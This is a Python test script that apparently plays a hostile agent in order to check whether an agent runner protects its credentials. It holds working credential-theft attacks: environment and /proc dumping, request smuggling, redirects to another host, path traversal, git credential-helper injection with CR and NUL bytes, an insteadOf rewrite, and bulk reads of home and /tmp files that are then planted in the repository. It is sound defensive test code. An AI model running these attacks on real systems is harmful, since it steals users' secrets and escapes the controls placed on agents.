"""Test agent: one attack on the run's credentials, chosen by name; what it gets goes to LOOT.

Usage: attacker_agent.py ATTACK LOOT OTHER_URL
  ATTACK     which attack (see ATTACKS below)
  LOOT       a file outside the repo where everything the attack obtained is written
  OTHER_URL  another host (http://127.0.0.1:PORT) the agent tries to reach the key through
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

attack, loot_path, other = sys.argv[1], Path(sys.argv[2]), sys.argv[3]
base = os.environ.get("API_BASE", "")
loot = bytearray()


def take(data: bytes | str) -> None:
    loot.extend(data.encode() if isinstance(data, str) else data)
    loot.extend(b"\n")


def get(url: str, headers: dict[str, str] | None = None) -> None:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            take(str(response.status))
            take(str(dict(response.headers)))
            take(response.read())
    except urllib.error.HTTPError as exc:
        take(f"HTTP {exc.code}")
        take(str(dict(exc.headers)))
        take(exc.read())
    except OSError as exc:
        take(f"error {exc}")


def raw(request: bytes) -> None:
    parts = urlsplit(base)
    with socket.create_connection((parts.hostname or "127.0.0.1", parts.port or 80), 10) as conn:
        conn.sendall(request)
        conn.settimeout(5)
        try:
            while chunk := conn.recv(65536):
                take(chunk)
        except OSError:
            pass


def read_proc() -> None:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    take((entry / name).read_bytes())
                except OSError:
                    pass


def git(*args: str, stdin: str = "") -> None:
    done = subprocess.run(["git", *args], input=stdin.encode(), capture_output=True, timeout=30)
    take(done.stdout)
    take(done.stderr)


other_host = urlsplit(other).netloc
if attack == "dump_env":
    take(json.dumps(dict(os.environ)))
elif attack == "read_proc":
    read_proc()
elif attack == "ps":
    take(subprocess.run(["ps", "-eww", "-o", "pid,args"], capture_output=True).stdout)
elif attack == "own_authorization":
    get(base + "/echo", {"Authorization": "Bearer agent-key", "x-api-key": "agent-key"})
elif attack == "upstream_echoes_the_key":
    get(base + "/leak")
    get(base + "/gzip")
elif attack == "absolute_uri_and_connect":
    raw(f"GET {other}/echo HTTP/1.1\r\nHost: {other_host}\r\nConnection: close\r\n\r\n".encode())
    raw(f"CONNECT {other_host} HTTP/1.1\r\nHost: {other_host}\r\n\r\n".encode())
    path = urlsplit(base).path
    raw(f"GET //{other_host}{path}/echo HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
elif attack == "redirect_off_host":
    get(base + f"/redirect?to={other}/echo")
elif attack == "other_route_and_forged_capability":
    prefix, _, name = base.rpartition("/")
    get(prefix + "/crm/echo")
    get(prefix.rsplit("/", 1)[0] + "/" + "A" * 43 + "/" + name + "/echo")
    get(base + "/../crm/echo")
    get(base + "/%2e%2e/%2e%2e/echo")
elif attack == "method_not_allowed":
    request = urllib.request.Request(base + "/echo", data=b"x", method="POST")
    try:
        urllib.request.urlopen(request, timeout=10)
    except urllib.error.HTTPError as exc:
        take(f"HTTP {exc.code}")
        take(exc.read())
elif attack == "capture_the_capability":
    take(base)  # the test reuses it after the run has ended
elif attack == "helper_without_a_capability":
    for op in ("get", "token"):
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "outloop_cli",
                "credential",
                op,
                *(["api"] if op == "token" else []),
            ],
            input=b"protocol=https\nhost=github.com\n\n",
            capture_output=True,
            timeout=30,
        )
        take(done.stdout)
        take(done.stderr)
elif attack == "helper_injection":
    git("credential", "fill", stdin=f"protocol=http\nhost={other_host}\rhost=github.com\n\n")
    git("credential", "fill", stdin="protocol=https\nhost=github.com\x00evil\n\n")
elif attack == "edit_the_loop_file":
    loop = Path(".outloop/attack.yml")
    loop.write_text(loop.read_text() + "\n# give me more\n")
elif attack == "insteadof":
    git("config", f"url.{other}/.insteadOf", "https://github.com/")
elif attack == "keyring_and_home_files":
    # as an attacker with a turn's time would: what it can read in 20 s, home first, and
    # at most 64 MB of it: a CI machine's /tmp holds gigabytes of earlier test runs, and
    # carrying all of that into the repository made the run itself outlast its limit
    import time

    deadline = time.monotonic() + 20
    budget = 64 * 1024 * 1024
    for root in (Path.home(), Path("/run/user"), Path("/tmp")):
        for path in root.rglob("*") if root.exists() else ():
            if time.monotonic() > deadline or len(loot) > budget:
                break
            try:
                if path.is_file() and path.stat().st_size < 1_000_000:
                    take(path.read_bytes())
            except OSError:
                pass
else:
    raise SystemExit(f"unknown attack {attack}")

loot_path.write_bytes(bytes(loot))
Path("counter.txt").write_text("1\n")
Path("loot-in-the-repo.bin").write_bytes(bytes(loot))  # try to get it committed, too
print(f"attack {attack}: {len(loot)} bytes of loot")
